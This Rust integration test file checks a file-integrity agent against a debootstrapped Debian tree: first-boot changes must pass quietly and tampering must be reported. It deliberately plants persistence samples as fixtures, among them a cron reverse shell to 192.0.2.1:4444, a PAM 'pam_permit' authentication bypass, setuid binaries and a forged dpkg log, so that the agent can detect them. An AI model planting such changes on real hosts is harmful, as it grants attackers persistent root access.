//! The built-in cloud policy on a real Debian root filesystem (issue 9): a tree made
//! with `debootstrap`, collected as an image builder would, then booted for the first
//! time (every per-instance file rewritten: the agent must stay quiet), then tampered
//! with (every change must be reported). A local policy may not switch checks off.
//!
//! The debootstrap tree is built once and cached under the target directory
//! (`target/debootstrap/`, guarded by `flock`); each test works on its own copy. The
//! tests need root (the tree holds root-owned files and device nodes) and `debootstrap`
//! (scripts/test installs it); without either they fail, they never skip.

use integrity_common::{scan, Baseline, Exclusions, Policy, ScanOptions, ScanProgress};
use std::fs;
use std::io::Write;
use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, OnceLock};

const AGENT: &str = env!("CARGO_BIN_EXE_integrity-agent");
const SUITE: &str = "bookworm";
const MIRROR: &str = "http://deb.debian.org/debian";
const VARIANT: &str = "minbase";
const INCLUDE: &str = "openssh-server,cron";

fn require_root() {
    let uid = fs::metadata("/proc/self").unwrap().uid();
    assert_eq!(
        uid, 0,
        "these tests need root (a debootstrap tree of root-owned files); run scripts/test as root"
    );
}

fn target_dir() -> PathBuf {
    match std::env::var_os("CARGO_TARGET_DIR") {
        Some(dir) => PathBuf::from(dir),
        None => Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target"),
    }
}

fn text(output: &Output) -> String {
    format!(
        "exit {:?}\nstdout:\n{}\nstderr:\n{}",
        output.status.code(),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

fn run(program: &str, args: &[&str]) -> Output {
    let output = Command::new(program)
        .args(args)
        .output()
        .unwrap_or_else(|error| panic!("cannot run {program}: {error}"));
    assert!(
        output.status.success(),
        "{program} {args:?}: {}",
        text(&output)
    );
    output
}

/// Run under an exclusive `flock`: finds the cached debootstrap tree or builds it into a
/// sibling directory and renames it. The marker beside it names the exact command, so a
/// change of suite, variant or packages rebuilds it.
const BUILD_SCRIPT: &str = r#"
set -eu
final=$1 partial=$2 marker=$3 key=$4 suite=$5 mirror=$6 variant=$7 include=$8
if [ -d "$final" ] && [ "$(cat "$marker" 2>/dev/null)" = "$key" ]; then exit 0; fi
PATH=$PATH:/usr/sbin:/sbin
if ! command -v debootstrap >/dev/null; then
  echo "debootstrap is not installed (apt-get install debootstrap; scripts/test does)" >&2
  exit 1
fi
rm -rf "$partial" "$final" "$marker"
if ! debootstrap --variant="$variant" --include="$include" "$suite" "$partial" "$mirror" >&2; then
  echo "debootstrap failed; the end of its log:" >&2
  tail -n 40 "$partial/debootstrap/debootstrap.log" >&2 || true
  exit 1
fi
mv "$partial" "$final"
printf '%s' "$key" > "$marker.tmp"
mv "$marker.tmp" "$marker"
"#;

fn debootstrap_tree() -> &'static Path {
    static TREE: OnceLock<PathBuf> = OnceLock::new();
    TREE.get_or_init(|| {
        let cache = target_dir().join("debootstrap");
        fs::create_dir_all(&cache).unwrap();
        let name = format!("{SUITE}-{VARIANT}");
        let final_dir = cache.join(&name);
        let key = format!("debootstrap --variant={VARIANT} --include={INCLUDE} {SUITE} {MIRROR}");
        let output = Command::new("flock")
            .arg(cache.join(".lock"))
            .args(["sh", "-c", BUILD_SCRIPT, "build"])
            .arg(&final_dir)
            .arg(cache.join(format!("{name}.partial")))
            .arg(cache.join(format!("{name}.ready")))
            .args([&key, SUITE, MIRROR, VARIANT, INCLUDE])
            .output()
            .expect("cannot run flock (util-linux)");
        assert!(
            output.status.success(),
            "cannot build the debootstrap tree in {}: {}",
            final_dir.display(),
            text(&output)
        );
        assert!(final_dir.join("usr/bin/find").is_file());
        final_dir
    })
}

/// A temporary directory for one test's copy of the tree: in /dev/shm when it has room
/// (a copy there takes a second, on a VM's disk ten), else in the usual temp dir.
fn scratch() -> tempfile::TempDir {
    let shm = Path::new("/dev/shm");
    let free = Command::new("stat")
        .args(["-f", "-c", "%a %S"])
        .arg(shm)
        .output()
        .ok()
        .filter(|output| output.status.success())
        .and_then(|output| {
            let text = String::from_utf8(output.stdout).ok()?;
            let mut fields = text.split_whitespace().map(|f| f.parse::<u64>().ok());
            Some(fields.next()?? * fields.next()??)
        })
        .unwrap_or(0);
    if free >= 2 << 30 {
        tempfile::tempdir_in(shm).unwrap()
    } else {
        tempfile::tempdir().unwrap()
    }
}

/// A private copy of the cached tree, after the image builder's last steps: an empty
/// machine id (what cloud images ship), the build host's name and resolver replaced.
fn golden_image(dir: &Path) -> PathBuf {
    let root = dir.join("root");
    let cache = debootstrap_tree();
    run(
        "cp",
        &[
            "-a",
            "--reflink=auto",
            cache.to_str().unwrap(),
            root.to_str().unwrap(),
        ],
    );
    let write = |path: &str, body: &str, mode: u32| {
        let path = root.join(path);
        let _ = fs::remove_file(&path);
        fs::write(&path, body).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
    };
    write("etc/machine-id", "", 0o444);
    write("etc/hostname", "golden\n", 0o644);
    write(
        "etc/hosts",
        "127.0.0.1 localhost\n127.0.1.1 golden\n::1 localhost ip6-localhost ip6-loopback\n",
        0o644,
    );
    write("etc/resolv.conf", "nameserver 192.0.2.53\n", 0o644);
    // No /var/lib/cloud: minbase has no cloud-init, and an image that never ran it
    // has none either; first boot creates it (the default policy's "state
    // directories" rule lets that through).
    assert!(!root.join("var/lib/cloud").exists());
    root
}

/// `integrity-collector --root ROOT -o OUT` with the built-in policy: the collector's
/// own code path (its binary lives in another package, see agent.rs).
fn collect(root: &Path, out: &Path) -> serde_json::Value {
    let policy = Policy::cloud_default();
    let scanned = scan(
        &ScanOptions {
            root: root.to_owned(),
            exclusions: Exclusions::defaults(),
            cross_filesystems: false,
            policy: Some(Arc::new(policy.clone())),
        },
        &ScanProgress::default(),
    )
    .unwrap();
    assert!(
        scanned.errors.is_empty(),
        "scan errors: {:?}",
        scanned.errors
    );
    let baseline = Baseline {
        image_id: "debian-12-golden".to_owned(),
        timestamp: "2026-11-23T07:31:43Z".to_owned(),
        entries: scanned.entries,
        errors: scanned.errors,
        policy: Some(policy),
    };
    baseline.validate().unwrap();
    let bytes = baseline.to_json_bytes();
    fs::write(out, &bytes).unwrap();
    let json: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    let rules = json["policy"]["rules"]
        .as_array()
        .unwrap_or_else(|| panic!("no policy in the baseline"));
    assert!(rules.iter().any(|rule| rule["name"] == "host name"));
    json
}

fn append(path: &Path, body: &str) {
    fs::OpenOptions::new()
        .append(true)
        .create(true)
        .open(path)
        .unwrap()
        .write_all(body.as_bytes())
        .unwrap();
}

/// What the first boot of a cloud VM writes.
fn first_boot(root: &Path) {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let machine_id = format!("{:032x}\n", nanos ^ (u128::from(std::process::id()) << 64));
    assert_eq!(machine_id.len(), 33);
    fs::write(root.join("etc/machine-id"), machine_id).unwrap();
    fs::write(root.join("etc/hostname"), "ip-10-0-0-7\n").unwrap();
    fs::write(
        root.join("etc/hosts"),
        "127.0.0.1 localhost\n10.0.0.7 ip-10-0-0-7.ec2.internal ip-10-0-0-7\n",
    )
    .unwrap();
    // systemd-resolved: the file becomes a symlink into /run.
    fs::create_dir_all(root.join("run/systemd/resolve")).unwrap();
    fs::write(
        root.join("run/systemd/resolve/stub-resolv.conf"),
        "nameserver 127.0.0.53\n",
    )
    .unwrap();
    fs::remove_file(root.join("etc/resolv.conf")).unwrap();
    symlink(
        "../run/systemd/resolve/stub-resolv.conf",
        root.join("etc/resolv.conf"),
    )
    .unwrap();
    // cloud-init's ssh_deletekeys, then new host keys.
    let ssh = root.join("etc/ssh");
    let mut old_keys = Vec::new();
    for entry in fs::read_dir(&ssh).unwrap() {
        let entry = entry.unwrap();
        if entry.file_name().to_string_lossy().starts_with("ssh_host_") {
            old_keys.push((entry.file_name(), fs::read(entry.path()).unwrap()));
            fs::remove_file(entry.path()).unwrap();
        }
    }
    assert!(old_keys.len() >= 4, "the image has host keys");
    let host = Command::new("ssh-keygen")
        .args(["-A", "-f"])
        .arg(root)
        .output();
    if !host.as_ref().is_ok_and(|output| output.status.success()) {
        run("chroot", &[root.to_str().unwrap(), "ssh-keygen", "-A"]);
    }
    for (name, bytes) in &old_keys {
        let now = fs::read(ssh.join(name)).unwrap();
        assert_ne!(&now, bytes, "{name:?} was not regenerated");
    }
    // cloud-init's per-instance state.
    let instance = root.join("var/lib/cloud/instances/i-123");
    fs::create_dir_all(instance.join("sem")).unwrap();
    fs::write(instance.join("user-data.txt"), "#cloud-config\n").unwrap();
    fs::write(instance.join("obj.pkl"), [0x80u8, 4, 0x95]).unwrap();
    fs::write(instance.join("sem/config_ssh"), "").unwrap();
    fs::create_dir_all(root.join("var/lib/cloud/data")).unwrap();
    fs::write(root.join("var/lib/cloud/data/instance-id"), "i-123\n").unwrap();
    symlink(
        "/var/lib/cloud/instances/i-123",
        root.join("var/lib/cloud/instance"),
    )
    .unwrap();
    append(&root.join("var/log/cloud-init.log"), "cloud-init: boot\n");
    // apt update: new and removed indexes, a new package cache.
    let lists = root.join("var/lib/apt/lists");
    fs::write(
        lists.join("deb.debian.org_debian_dists_bookworm-updates_InRelease"),
        "new\n",
    )
    .unwrap();
    fs::remove_file(lists.join("deb.debian.org_debian_dists_bookworm_Release.gpg")).unwrap();
    fs::write(root.join("var/cache/apt/pkgcache.bin"), vec![1u8; 4096]).unwrap();
    // Package and boot trails.
    append(
        &root.join("var/log/dpkg.log"),
        "2026-11-24 08:00:00 startup packages configure\n",
    );
    append(
        &root.join("var/log/apt/history.log"),
        "\nStart-Date: 2026-11-24  08:00:01\nCommandline: apt-get update\n",
    );
    let seed = root.join("var/lib/systemd/random-seed");
    fs::write(&seed, vec![0x5au8; 512]).unwrap();
    fs::set_permissions(&seed, fs::Permissions::from_mode(0o600)).unwrap();
    // The default user's key.
    let home_ssh = root.join("home/debian/.ssh");
    fs::create_dir_all(&home_ssh).unwrap();
    fs::write(home_ssh.join("authorized_keys"), "ssh-ed25519 AAAA user\n").unwrap();
    fs::set_permissions(&home_ssh, fs::Permissions::from_mode(0o700)).unwrap();
    for path in [
        root.join("home/debian"),
        home_ssh.clone(),
        home_ssh.join("authorized_keys"),
    ] {
        std::os::unix::fs::chown(path, Some(1000), Some(1000)).unwrap();
    }
}

fn agent(root: &Path, baseline: &Path, extra: &[&str]) -> Output {
    Command::new(AGENT)
        .args(["--root", root.to_str().unwrap()])
        .args(["--baseline", baseline.to_str().unwrap()])
        .args(["--once", "--format", "json", "--verbose"])
        .args(extra)
        .env_remove("IMAGE_ID")
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

fn lines(output: &Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|_| panic!("not JSON: {line}")))
        .collect()
}

/// (kind, path, changed, rule) of every line that has `key` (`anomaly` or `allowed`).
fn findings(output: &Output, key: &str) -> Vec<(String, String, Vec<String>, String)> {
    let mut found: Vec<_> = lines(output)
        .into_iter()
        .filter(|line| line.get(key).is_some())
        .map(|line| {
            let changed = line["changed"]
                .as_array()
                .map(|fields| {
                    fields
                        .iter()
                        .map(|field| field.as_str().unwrap().to_owned())
                        .collect()
                })
                .unwrap_or_default();
            (
                line[key].as_str().unwrap().to_owned(),
                line["path"].as_str().unwrap().to_owned(),
                changed,
                line["rule"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect();
    found.sort();
    found
}

/// Kind and path of every reported anomaly, sorted.
fn reported(output: &Output) -> Vec<(String, String)> {
    findings(output, "anomaly")
        .into_iter()
        .map(|(kind, path, _, _)| (kind, path))
        .collect()
}

fn pairs(expected: &[(&str, &str)]) -> Vec<(String, String)> {
    let mut pairs: Vec<_> = expected
        .iter()
        .map(|(kind, path)| (kind.to_string(), path.to_string()))
        .collect();
    pairs.sort();
    pairs
}

/// One byte of `path` changed in place (size kept).
fn flip_byte(path: &Path, offset: usize) {
    let mut bytes = fs::read(path).unwrap();
    bytes[offset] ^= 0x20;
    fs::write(path, bytes).unwrap();
}

#[test]
fn first_boot_is_quiet_and_tampering_is_reported() {
    require_root();
    let dir = scratch();
    let root = golden_image(dir.path());
    let baseline = dir.path().join("baseline.json");
    collect(&root, &baseline);
    let dpkg_log = root.join("var/log/dpkg.log");
    let golden_dpkg_log = fs::read(&dpkg_log).unwrap();
    assert!(golden_dpkg_log.len() > 1000, "debootstrap writes dpkg.log");

    let clean = agent(&root, &baseline, &[]);
    assert_eq!(clean.status.code(), Some(0), "{}", text(&clean));

    first_boot(&root);
    let booted = agent(&root, &baseline, &[]);
    assert_eq!(
        reported(&booted),
        vec![],
        "first boot reported: {}",
        text(&booted)
    );
    assert_eq!(booted.status.code(), Some(0), "{}", text(&booted));
    let allowed = findings(&booted, "allowed");
    for (path, rule) in [
        ("/etc/machine-id", "\"machine id\""),
        ("/etc/hostname", "\"host name\""),
        ("/etc/hosts", "\"host name\""),
        ("/etc/resolv.conf", "\"resolver\""),
        ("/etc/ssh/ssh_host_ed25519_key", "\"ssh host keys\""),
        ("/etc/ssh/ssh_host_rsa_key.pub", "\"ssh host keys\""),
        ("/var/log/dpkg.log", "\"append-only logs\""),
        ("/var/log/apt/history.log", "\"append-only logs\""),
        ("/home/debian/.ssh/authorized_keys", "\"login keys\""),
    ] {
        assert!(
            allowed
                .iter()
                .any(|(_, p, _, r)| p == path && r.contains(rule)),
            "no allowed line for {path} by {rule}: {allowed:#?}"
        );
    }
    // Ignored paths are not scanned at all, so not even "allowed".
    for (_, path, _, _) in &allowed {
        for ignored in ["/var/lib/cloud/", "/var/lib/apt/lists/", "/var/cache/"] {
            assert!(!path.starts_with(ignored), "{path} was scanned");
        }
        assert_ne!(path, "/var/lib/systemd/random-seed");
        assert_ne!(path, "/var/log/cloud-init.log");
    }

    // Tampering, all at once; each must be reported.
    flip_byte(&root.join("usr/bin/id"), 20_000);
    fs::set_permissions(
        root.join("usr/bin/find"),
        fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    fs::write(
        root.join("etc/cron.d/evil"),
        "* * * * * root /bin/sh -c 'sh -i >& /dev/tcp/192.0.2.1/4444 0>&1'\n",
    )
    .unwrap();
    let pam = root.join("etc/pam.d/common-auth");
    let pam_mode = fs::metadata(&pam).unwrap().mode();
    let replacement = root.join("etc/pam.d/.common-auth.new");
    fs::write(&replacement, "auth sufficient pam_permit.so\n").unwrap();
    fs::set_permissions(&replacement, fs::Permissions::from_mode(pam_mode)).unwrap();
    fs::rename(&replacement, &pam).unwrap();
    fs::OpenOptions::new()
        .write(true)
        .open(&dpkg_log)
        .unwrap()
        .set_len(100)
        .unwrap();

    let tampered = agent(&root, &baseline, &[]);
    let expected = pairs(&[
        ("added", "/etc/cron.d/evil"),
        ("metadata_changed", "/usr/bin/find"),
        ("modified", "/etc/pam.d/common-auth"),
        ("modified", "/usr/bin/id"),
        ("modified", "/var/log/dpkg.log"),
    ]);
    assert_eq!(reported(&tampered), expected, "{}", text(&tampered));
    assert_eq!(tampered.status.code(), Some(1 | 4), "{}", text(&tampered));
    let details = findings(&tampered, "anomaly");
    let find = details.iter().find(|f| f.1 == "/usr/bin/find").unwrap();
    assert!(find.2.contains(&"mode".to_owned()), "{find:?}");
    let log = details.iter().find(|f| f.1 == "/var/log/dpkg.log").unwrap();
    assert!(log.3.contains("\"append-only logs\""), "{log:?}");
    // The first-boot changes are still let through.
    assert!(findings(&tampered, "allowed")
        .iter()
        .any(|(_, path, _, _)| path == "/etc/hostname"));

    // A log longer than before whose earlier bytes were edited.
    let mut forged = golden_dpkg_log.clone();
    forged[10] ^= 0x01;
    forged.extend_from_slice(b"2026-11-24 09:00:00 status installed evil:amd64 1.0\n");
    fs::write(&dpkg_log, &forged).unwrap();
    let edited = agent(&root, &baseline, &[]);
    assert_eq!(reported(&edited), expected, "{}", text(&edited));
    // And the honest append of the same length is let through.
    let mut grown = golden_dpkg_log;
    grown.extend_from_slice(b"2026-11-24 09:00:00 status installed good:amd64 1.0\n");
    fs::write(&dpkg_log, &grown).unwrap();
    let appended = agent(&root, &baseline, &[]);
    assert!(
        !reported(&appended).contains(&("modified".into(), "/var/log/dpkg.log".into())),
        "{}",
        text(&appended)
    );
}

#[test]
fn a_local_policy_cannot_stop_checking_usr_bin() {
    require_root();
    let dir = scratch();
    let root = golden_image(dir.path());
    let baseline = dir.path().join("baseline.json");
    collect(&root, &baseline);
    flip_byte(&root.join("usr/bin/id"), 20_000);
    let checked = agent(&root, &baseline, &[]);
    assert_eq!(
        reported(&checked),
        pairs(&[("modified", "/usr/bin/id")]),
        "{}",
        text(&checked)
    );
    assert_eq!(checked.status.code(), Some(4));

    let local = dir.path().join("local.toml");
    fs::write(
        &local,
        "[[rule]]\npaths = [\"/usr/bin/**\"]\nignore = true\n",
    )
    .unwrap();
    let refused = agent(&root, &baseline, &["--policy", local.to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(14), "{}", text(&refused));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("refused"), "{stderr}");
    assert!(stderr.contains("/usr/bin/**"), "{stderr}");
    assert!(refused.stdout.is_empty(), "{}", text(&refused));

    let weakened = agent(
        &root,
        &baseline,
        &["--policy", local.to_str().unwrap(), "--allow-weaker-policy"],
    );
    assert_eq!(weakened.status.code(), Some(0), "{}", text(&weakened));
    assert_eq!(reported(&weakened), vec![], "{}", text(&weakened));
    let stderr = String::from_utf8_lossy(&weakened.stderr);
    assert!(stderr.contains("SECURITY"), "{stderr}");
    assert!(stderr.contains("local.toml"), "{stderr}");
}

#[test]
fn explain_names_the_rule_of_a_path() {
    require_root();
    let dir = scratch();
    let root = golden_image(dir.path());
    let baseline = dir.path().join("baseline.json");
    collect(&root, &baseline);
    let explain = |path: &str| {
        let output = Command::new(AGENT)
            .args(["--root", root.to_str().unwrap()])
            .args(["--baseline", baseline.to_str().unwrap()])
            .args(["--explain", path])
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0), "{}", text(&output));
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let hostname = explain("/etc/hostname");
    assert!(hostname.contains("\"host name\""), "{hostname}");
    assert!(hostname.contains("not checked: content"), "{hostname}");
    let instance = explain("/var/lib/cloud/instance");
    assert!(instance.contains("not scanned"), "{instance}");
    assert!(instance.contains("\"cloud-init state\""), "{instance}");
    let id = explain("/usr/bin/id");
    assert!(id.contains("rule: none matches: every check"), "{id}");
}

/// The exit status as REFERENCE §3–4 reads it: 1 added, 2 deleted, 4 changed (content, type
/// or metadata), so drift is 0-7; anything else (an error is 14+) fails the test.
fn drift_bits(output: &Output) -> i32 {
    let code = output.status.code().expect("the agent exited");
    assert!(
        (0..8).contains(&code),
        "not a drift bitmask: {}",
        text(output)
    );
    code
}

/// The `widening` list of the reported line for `path` (empty when it has none).
fn widening(output: &Output, path: &str) -> Vec<String> {
    let line = lines(output)
        .into_iter()
        .find(|line| line.get("anomaly").is_some() && line["path"] == path)
        .unwrap_or_else(|| panic!("{path} not reported: {}", text(output)));
    line.get("widening")
        .and_then(|list| list.as_array())
        .map(|list| {
            list.iter()
                .map(|name| name.as_str().unwrap().to_owned())
                .collect()
        })
        .unwrap_or_default()
}

fn make(path: &Path, dir: bool, mode: u32, owner: u32) {
    if dir {
        fs::create_dir_all(path).unwrap();
    } else {
        fs::write(path, "#!/bin/sh\nexec id\n").unwrap();
    }
    // chown first: it clears the set-id bits.
    std::os::unix::fs::chown(path, Some(owner), Some(owner)).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// Two users' home directories in the golden image, a few files in them, and a cache
/// (which the built-in policy ignores).
fn homes(root: &Path) {
    make(&root.join("home/u"), true, 0o755, 1000);
    make(&root.join("home/u/bin"), true, 0o755, 1000);
    make(&root.join("home/u/bin/tool"), false, 0o755, 1000);
    make(&root.join("home/u/bin/helper"), false, 0o755, 1000);
    make(&root.join("home/u/.cache"), true, 0o755, 1000);
    make(&root.join("home/u/.cache/thumb"), false, 0o644, 1000);
    make(&root.join("home/v"), true, 0o755, 1001);
}

#[test]
fn widening_is_reported_under_the_built_in_policy_unless_the_path_is_ignored() {
    require_root();
    let dir = scratch();
    let root = golden_image(dir.path());
    homes(&root);
    let baseline = dir.path().join("baseline.json");
    collect(&root, &baseline);
    first_boot(&root);
    let booted = agent(&root, &baseline, &[]);
    assert_eq!(reported(&booted), vec![], "{}", text(&booted));

    // Narrowing under the same rule, and anything at all in ignored paths: quiet.
    fs::set_permissions(root.join("home/v"), fs::Permissions::from_mode(0o700)).unwrap();
    make(&root.join("home/u/.cache/evil"), false, 0o4777, 0);
    fs::set_permissions(
        root.join("home/u/.cache/thumb"),
        fs::Permissions::from_mode(0o6777),
    )
    .unwrap();
    fs::set_permissions(
        root.join("var/cache/debconf/config.dat"),
        fs::Permissions::from_mode(0o4777),
    )
    .unwrap();
    let quiet = agent(&root, &baseline, &[]);
    assert_eq!(reported(&quiet), vec![], "{}", text(&quiet));
    assert_eq!(drift_bits(&quiet), 0);
    let allowed = findings(&quiet, "allowed");
    assert!(
        allowed
            .iter()
            .any(|(kind, path, changed, rule)| kind == "metadata_changed"
                && path == "/home/v"
                && changed == &["mode"]
                && rule.contains("\"home directories\"")),
        "chmod 700 of a home directory is let through: {allowed:#?}"
    );
    assert!(
        !String::from_utf8_lossy(&quiet.stdout).contains("cache/"),
        "an ignored path was scanned: {}",
        text(&quiet)
    );

    // Widening under "home directories" (which checks only the owner, and lets
    // additions through): each is reported and marked.
    fs::set_permissions(root.join("home/u"), fs::Permissions::from_mode(0o777)).unwrap();
    fs::set_permissions(
        root.join("home/u/bin/tool"),
        fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    std::os::unix::fs::chown(root.join("home/u/bin/helper"), Some(0), Some(0)).unwrap();
    make(&root.join("home/u/bin/rootsh"), false, 0o4755, 0);
    // And drift that widens nothing, for comparison.
    flip_byte(&root.join("usr/bin/id"), 20_000);
    let widened = agent(&root, &baseline, &[]);
    assert_eq!(
        reported(&widened),
        pairs(&[
            ("added", "/home/u/bin/rootsh"),
            ("metadata_changed", "/home/u"),
            ("metadata_changed", "/home/u/bin/helper"),
            ("metadata_changed", "/home/u/bin/tool"),
            ("modified", "/usr/bin/id"),
        ]),
        "{}",
        text(&widened)
    );
    assert_eq!(drift_bits(&widened), 1 | 4, "{}", text(&widened));
    for (path, changed, marked) in [
        ("/home/u", &["mode"][..], &["g+w", "o+w"][..]),
        ("/home/u/bin/tool", &["mode"], &["setuid"]),
        ("/home/u/bin/helper", &["uid", "gid"], &["owner", "group"]),
        ("/home/u/bin/rootsh", &[], &["setuid"]),
    ] {
        let found = findings(&widened, "anomaly");
        let (_, _, got, rule) = found.iter().find(|f| f.1 == path).unwrap();
        assert_eq!(got, changed, "{path}");
        assert!(rule.contains("\"home directories\""), "{path}: {rule}");
        assert_eq!(widening(&widened, path), marked, "{path}");
    }
    // The narrowing and the ignored paths stay as they were.
    assert!(findings(&widened, "allowed")
        .iter()
        .any(|(_, path, _, _)| path == "/home/v"));
    assert!(!String::from_utf8_lossy(&widened.stdout).contains("cache/"));
    // Lines without widening carry no such field: REFERENCE §3–4's line, unchanged.
    assert_eq!(widening(&widened, "/usr/bin/id"), Vec::<String>::new());
    plain_lines_are_designs(&widened);

    // The text report says it too.
    let text_report = Command::new(AGENT)
        .args(["--root", root.to_str().unwrap()])
        .args(["--baseline", baseline.to_str().unwrap()])
        .env_remove("IMAGE_ID")
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&text_report.stdout);
    assert!(
        shown
            .lines()
            .any(|line| line.contains("\"/home/u/bin/tool\"") && line.contains("WIDENING: setuid")),
        "{shown}"
    );
    assert!(shown.contains("4 change(s) widen"), "{shown}");
}

/// Every reported line without widening has REFERENCE §3–4's five fields and no more (plus
/// `rule`, as these tests run with `--verbose`).
fn plain_lines_are_designs(output: &Output) {
    for line in lines(output) {
        if line.get("anomaly").is_none() || line.get("widening").is_some() {
            continue;
        }
        let mut keys: Vec<_> = line.as_object().unwrap().keys().cloned().collect();
        keys.sort();
        assert_eq!(
            keys,
            ["anomaly", "baseline", "changed", "current", "path", "rule"],
            "{line}"
        );
    }
}

#[test]
fn explain_says_where_widening_is_reported() {
    require_root();
    let dir = scratch();
    let root = golden_image(dir.path());
    let baseline = dir.path().join("baseline.json");
    collect(&root, &baseline);
    let explain = |path: &str, format: &str| {
        let output = Command::new(AGENT)
            .args(["--root", root.to_str().unwrap()])
            .args(["--baseline", baseline.to_str().unwrap()])
            .args(["--explain", path, "--format", format])
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0), "{}", text(&output));
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    for path in [
        "/home/u",
        "/home/u/bin/tool",
        "/etc/hostname",
        "/usr/bin/find",
    ] {
        let shown = explain(path, "text");
        assert!(
            shown.contains("widening: always reported here"),
            "{path}: {shown}"
        );
        let json: serde_json::Value = serde_json::from_str(&explain(path, "json")).unwrap();
        assert_eq!(json["widening_reported"], true, "{path}: {json}");
    }
    let home = explain("/home/u", "text");
    assert!(home.contains("\"home directories\""), "{home}");
    assert!(
        home.contains("if added: allowed (added_ok), unless set-uid, set-gid or world-writable"),
        "{home}"
    );
    for path in [
        "/home/u/.cache/x",
        "/var/cache/debconf/config.dat",
        "/var/log/syslog",
    ] {
        let shown = explain(path, "text");
        assert!(shown.contains("not scanned"), "{path}: {shown}");
        assert!(shown.contains("widening: not reported"), "{path}: {shown}");
        let json: serde_json::Value = serde_json::from_str(&explain(path, "json")).unwrap();
        assert_eq!(json["widening_reported"], false, "{path}: {json}");
    }
}
